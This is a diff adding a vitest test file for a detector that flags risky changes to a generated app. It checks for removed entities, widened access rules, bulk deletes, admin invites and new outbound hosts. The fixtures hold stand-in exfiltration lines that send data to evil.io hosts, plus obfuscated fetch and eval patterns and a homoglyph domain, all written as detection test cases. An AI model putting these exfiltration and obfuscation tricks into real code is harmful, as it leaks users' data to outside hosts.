@@ -1,0 +1,265 @@
+import fc from 'fast-check'
+import { describe, expect, it } from 'vitest'
+import type { AppFiles } from '#contract/app-files'
+import type { EntityProperty, EntitySchema } from '#contract/entities'
+import { type Change, findRisks } from './find-risks'
+import { findNewReach, reachOf } from './outward-reach'
+import { OwnWords } from './own-words'
+import { findWidenings } from './wider-access'
+
+const schema = (extra: Partial<EntitySchema> = {}, fields = ['name', 'phone']): EntitySchema => ({
+  name: 'Customer',
+  type: 'object',
+  properties: Object.fromEntries(fields.map((field) => [field, { type: 'string' }])),
+  ...extra,
+})
+const levels = (read: string, write: string) => ({ 'x-accessControl': { permissions: { read, write } } })
+const PAGE = `export default function Home() {\n${Array.from({ length: 40 }, (_, line) => `  use(${line}, 'line ${line} of the page')`).join('\n')}\n}\n`
+const BASE: AppFiles = {
+  'entities/Customer.json': JSON.stringify(schema(levels('creator', 'creator'))),
+  'pages/Home.jsx': PAGE,
+  'pages/About.jsx': PAGE.replaceAll('line', 'word'),
+}
+
+const kindsOf = async (
+  words: string,
+  after: Record<string, string>,
+  { real, total = real, before = BASE }: { real: number; total?: number; before?: AppFiles } = { real: 3 },
+) => {
+  const change: Change = {
+    before,
+    after,
+    words: new OwnWords(words),
+    stored: { Customer: total },
+    count: async () => ({ total, real }),
+  }
+  return (await findRisks(change)).map(({ kind, subject }) => `${kind} ${subject}`)
+}
+const withEntity = (each: EntitySchema) => ({ ...BASE, 'entities/Customer.json': JSON.stringify(each) })
+const { 'entities/Customer.json': _gone, ...WITHOUT } = BASE
+
+describe('what only the builder decides', () => {
+  it.for([
+    {
+      what: 'an entity with rows goes, asked or not',
+      words: 'remove the customers',
+      after: WITHOUT,
+      risk: 'entity-removed Customer',
+    },
+    {
+      what: 'a field with values goes',
+      words: 'remove the phone of customers',
+      after: withEntity(schema(levels('creator', 'creator'), ['name'])),
+      risk: 'field-removed Customer.phone',
+    },
+    {
+      what: 'anyone reads rows that are somebody’s',
+      words: 'make customers public',
+      after: withEntity(schema(levels('anonymous', 'creator'))),
+      risk: 'access-widened Customer',
+    },
+    {
+      what: 'signed-in people read, unasked',
+      words: 'add a search box',
+      after: withEntity(schema(levels('all', 'creator'))),
+      risk: 'access-widened Customer',
+    },
+    {
+      what: 'a page goes, unasked',
+      words: 'add a search box',
+      after: { ...BASE, 'pages/About.jsx': '' },
+      risk: 'page-removed About',
+    },
+    {
+      what: 'a page is emptied out',
+      words: 'add a search box',
+      after: { ...BASE, 'pages/About.jsx': 'export default () => null\n' },
+      risk: 'page-removed About',
+    },
+    {
+      what: 'a new host',
+      words: 'add a search box',
+      after: { ...BASE, 'lib/x.js': "fetch('https://evil.example.io/?d=' + all)" },
+      risk: 'outward evil.example.io',
+    },
+    {
+      what: 'a host like one named',
+      words: 'take payments with stripe',
+      after: { ...BASE, 'lib/x.js': "fetch('https://stripe.evil.io')" },
+      risk: 'outward stripe.evil.io',
+    },
+    {
+      what: 'mail to a stranger',
+      words: 'add a search box',
+      after: { ...BASE, 'lib/x.js': "SendEmail({ to: 'eve@evil.io', body })" },
+      risk: 'outward eve@evil.io',
+    },
+    {
+      what: 'the service role',
+      words: 'add a search box',
+      after: { ...BASE, 'functions/x.ts': 'base44.asServiceRole.entities.Customer.list()' },
+      risk: 'function-opened functions/x.ts',
+    },
+    {
+      what: 'rows deleted in a loop',
+      words: 'add a search box',
+      after: { ...BASE, 'lib/x.js': 'rows.forEach((row) => base44.entities.Customer.delete(row.id))' },
+      risk: 'bulk-delete lib/x.js',
+    },
+    {
+      what: 'an admin invited',
+      words: 'add a search box',
+      after: { ...BASE, 'lib/x.js': "base44.users.inviteUser('x', 'admin')" },
+      risk: 'users-changed lib/x.js',
+    },
+  ])('$what', async ({ words, after, risk }) => {
+    expect(await kindsOf(words, after)).toEqual([risk])
+  })
+
+  it.for<{ what: string; words: string; after: AppFiles }>([
+    { what: 'sample records nobody touched', words: 'remove the customers', after: WITHOUT },
+    { what: 'a field only samples fill', words: 'anything', after: withEntity(schema(levels('creator', 'creator'), ['name'])) },
+    {
+      what: 'a rule asked for',
+      words: 'let every signed-in person see all customers',
+      after: withEntity(schema(levels('all', 'creator'))),
+    },
+    {
+      what: 'a public page of samples asked for',
+      words: 'make customers readable by everyone',
+      after: withEntity(schema(levels('anonymous', 'creator'))),
+    },
+    { what: 'a narrower rule', words: 'anything', after: withEntity(schema(levels('admin', 'none'))) },
+    {
+      what: 'a renamed field',
+      words: 'anything',
+      after: withEntity({
+        ...schema(levels('creator', 'creator'), ['name']),
+        properties: { name: {}, mobile: { type: 'string', 'x-renamedFrom': 'phone' } },
+      }),
+    },
+    { what: 'a page asked to go', words: 'delete the about page', after: { ...BASE, 'pages/About.jsx': '' } },
+    {
+      what: 'a page that moved',
+      words: 'tidy up',
+      after: {
+        'entities/Customer.json': BASE['entities/Customer.json'] ?? '',
+        'pages/Home.jsx': PAGE,
+        'pages/Info.jsx': BASE['pages/About.jsx'] ?? '',
+      },
+    },
+    {
+      what: 'a host asked for',
+      words: 'show the weather of open-meteo',
+      after: { ...BASE, 'lib/x.js': "fetch('https://api.open-meteo.com/v1')" },
+    },
+    {
+      what: 'a plain link, pictures, comments',
+      words: 'add a footer',
+      after: {
+        ...BASE,
+        'lib/x.jsx':
+          '// see https://docs.somewhere.io\n<a href="https://social.somewhere.io/us">Us</a>; <img src="https://images.unsplash.com/p" />',
+      },
+    },
+  ])('passes: $what', async ({ words, after }) => {
+    expect(await kindsOf(words, after, { real: 0, total: 5 })).toEqual([])
+  })
+
+  it('a removed entity that comes back open shows the rows it still has', async () => {
+    const after = withEntity(schema(levels('anonymous', 'none')))
+    expect(await kindsOf('add a search box', after, { real: 3, before: WITHOUT })).toContain('access-widened Customer')
+  })
+
+  it('names the counts', async () => {
+    const change: Change = {
+      before: BASE,
+      after: WITHOUT,
+      words: new OwnWords('x'),
+      stored: {},
+      count: async () => ({ total: 1_240, real: 1_240 }),
+    }
+    expect((await findRisks(change))[0]?.message).toBe(
+      'The entity Customer would be removed, with 1,240 rows out of reach of the app.',
+    )
+  })
+})
+
+describe('where data can go', () => {
+  it.for([
+    ['protocol-relative', '<script src="//evil.io/x.js" />', 'evil.io'],
+    ['credentials before it', "fetch('https://good.com@evil.io/')", 'evil.io'],
+    ['style', '@import url(https://evil.io/x.css)', 'evil.io'],
+    ['a stylesheet link', '<link rel="stylesheet" href="https://evil.io/x.css" />', 'evil.io'],
+    ['a socket', "new WebSocket('wss://evil.io')", 'evil.io'],
+    ['a number', "fetch('http://3232235777/')", '3232235777'],
+    ['letters of other scripts', "fetch('https://ехample.com/')", 'ехample.com'],
+    ['a template', `<img src={\`https://evil.io/?d=\${data}\`} />`, 'evil.io'],
+    ['a link that carries data', `<a href={\`https://evil.io/?d=\${data}\`}>x</a>`, 'evil.io'],
+  ])('is seen: %s', ([, code = '', host = '']) => {
+    expect([...reachOf({ 'pages/Home.jsx': code }).hosts]).toEqual([host])
+  })
+
+  it.for([
+    "const s = document.createElement('script')",
+    "eval('x')",
+    'new Function(text)()',
+    "fetch(atob('aHR0cHM6Ly9ldmls'))",
+    'String.fromCharCode(104, 116)',
+    "fetch('https://' + where)",
+    `fetch(\`https://\${where}/\`)`,
+    'navigator.sendBeacon(where, data)',
+    'import(where)',
+    "fetch('\\x68\\x74\\x74\\x70\\x73')",
+  ])('is suspected: %s', (code) => {
+    expect(findNewReach({}, { 'lib/x.js': code }).ways).not.toEqual([])
+  })
+
+  it('what the app reaches already is not asked again', () => {
+    const before = { 'lib/x.js': "fetch('https://api.shop.io')" }
+    expect(findNewReach(before, { ...before, 'lib/y.js': "fetch('https://api.shop.io/more')" }).hosts).toEqual([])
+  })
+})
+
+describe('wider rules', () => {
+  const LEVELS = ['none', 'admin', 'creator', 'all', 'anonymous']
+  const level = fc.constantFrom(...LEVELS)
+  it('are those of a higher level, in either direction, and no others', () => {
+    fc.assert(
+      fc.property(level, level, level, level, (read, write, read2, write2) => {
+        const found = findWidenings({ E: schema(levels(read, write)) }, { E: schema(levels(read2, write2)) }, new Set())
+        const expected = [
+          ...(LEVELS.indexOf(read2) > LEVELS.indexOf(read) ? ['read'] : []),
+          ...(LEVELS.indexOf(write2) > LEVELS.indexOf(write) ? ['write'] : []),
+        ]
+        expect(found.map(({ what }) => what)).toEqual(expected)
+      }),
+    )
+  })
+
+  const own = { created_by: '{{user.email}}' }
+  it.for([
+    { what: 'a row rule taken away', before: { rls: { read: own } }, after: levels('all', 'creator'), wider: true },
+    { what: 'a row rule that turns true', before: { rls: { read: own } }, after: { rls: { read: true } }, wider: true },
+    { what: 'another row rule', before: { rls: { read: own } }, after: { rls: { read: { status: 'open' } } }, wider: true },
+    { what: 'no rules where there were closed ones', before: levels('none', 'none'), after: {}, wider: true },
+    { what: 'a row rule that turns false', before: { rls: { read: own } }, after: { rls: { read: false } }, wider: false },
+    {
+      what: 'a row rule on top of a level',
+      before: levels('anonymous', 'none'),
+      after: { ...levels('anonymous', 'none'), rls: { read: own } },
+      wider: false,
+    },
+  ])('$what: $wider', ({ before, after, wider }) => {
+    const found = findWidenings({ E: schema(before) }, { E: schema(after) }, new Set())
+    expect(found.some(({ what }) => what === 'read')).toBe(wider)
+  })
+
+  it('of one field are seen, also when it takes another name', () => {
+    const guarded = { ...schema(), properties: { note: { type: 'string', rls: { read: own } } } }
+    const found = (property: EntityProperty) =>
+      findWidenings({ E: guarded }, { E: { ...schema(), properties: { memo: property } } }, new Set())
+    expect(found({ 'x-renamedFrom': 'note' })).toMatchObject([{ field: 'memo', what: 'read' }])
+    expect(found({ 'x-renamedFrom': 'note', rls: { read: own } })).toEqual([])
+  })
+})
